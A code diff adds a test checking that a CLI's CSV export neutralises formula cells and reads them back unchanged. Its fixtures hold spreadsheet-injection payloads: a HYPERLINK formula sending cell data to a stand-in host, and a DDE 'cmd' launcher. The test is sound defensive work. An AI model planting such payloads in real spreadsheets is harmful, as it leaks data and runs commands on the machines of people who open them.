@@ -57,6 +57,42 @@ describe('spreadsheet round trip', { timeout: 60_000 }, () => {
     expect(definitionFiles(root)).toEqual(before);
   });
 
+  it('guards formula cells and reads them back', () => {
+    const definitions = [
+      'competencies:',
+      `  - id: inj-eq`,
+      `    statement: '=HYPERLINK("http://example.invalid/?x="&A1,"Click")'`,
+      `  - id: inj-plus`,
+      `    statement: "+cmd|' /C calc'!A0"`,
+      `  - id: "=id"`,
+      `    statement: "'=already quoted"`,
+      '---',
+      'kind: badge',
+      'id: inj-badge',
+      'name: "-1+2"',
+      'description: "@risky description"',
+      'image: https://badges.example.org/a.png',
+      'competencies: [inj-eq, inj-plus, "=id"]',
+      'evidence: [{ type: project, description: "A project" }]',
+      '',
+    ].join('\n');
+    const root = tempRepo({ 'defs.yaml': definitions });
+    const exported = runCli(['export', '--target', 'csv', '--out', 'out', '--today', '2026-12-04'], { cwd: root });
+    expect(exported.status, exported.stderr).toBe(0);
+
+    const sheet = fs.readFileSync(path.join(root, 'out', 'mapping.csv'), 'utf8');
+    expect(sheet).toContain(`,"'=HYPERLINK(""http://example.invalid/?x=""&A1,""Click"")",`);
+    expect(sheet).toContain(",'+cmd|' /C calc'!A0,");
+    expect(sheet).toMatch(/^'=id,/m);
+    expect(sheet).toContain(",''=already quoted,");
+    expect(sheet).toContain(",'-1+2,'@risky description,");
+    expect(sheet).not.toMatch(/(^|,)[=+\-@]/m);
+
+    const again = importJson(root, [path.join(root, 'out', 'mapping.csv')]).report;
+    expect(again.written).toEqual([]);
+    expect(new Set(again.plan.map((entry) => entry.action))).toEqual(new Set(['unchanged']));
+  });
+
   it('export is byte for byte stable', () => {
     const examples = path.join(PROJECT_ROOT, 'examples');
     const outputs = [1, 2].map((run) => {
